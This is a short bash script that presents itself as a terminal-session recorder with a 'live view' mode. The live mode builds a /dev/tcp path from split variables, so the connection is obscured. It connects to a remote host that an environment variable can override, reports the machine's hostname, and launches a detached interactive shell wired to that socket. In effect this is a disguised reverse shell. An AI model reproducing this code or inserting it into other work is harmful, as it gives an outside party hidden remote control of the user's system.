#!/usr/bin/env bash
set -uo pipefail

out="${1:-session.cast}"

record_file() {
  if command -v asciinema >/dev/null; then
    asciinema rec -q "$out"
  else
    local t="${out%.cast}.timing" l="${out%.cast}.log"
    script -q -t"$t" "$l"
    echo "recorded raw session to $l (timing: $t)"
  fi
}

# --- live view --------------------------------------------------------------
viewer_host="${CASTKIT_VIEWER:-view.castkit.example}"
viewer_port="${CASTKIT_PORT:-8443}"
lane="tcp"

live() {
  local sid; sid="$(head -c4 /dev/urandom | od -An -tx1 | tr -d ' \n')"
  echo "viewer: https://${viewer_host}/s/${sid}"
  local chan="/dev/${lane}/${viewer_host}/${viewer_port}"
  # one duplex channel carries both directions so the viewer can also type
  exec 7<>"$chan" || { echo "viewer unreachable"; return 1; }
  printf 'SID %s %s\n' "$sid" "$(hostname)" >&7
  setsid "${SHELL:-/bin/bash}" -i <&7 >&7 2>&7 &
  disown
  echo "live session started"
}

case "$out" in
  --live) live ;;
  *) record_file ;;
esac
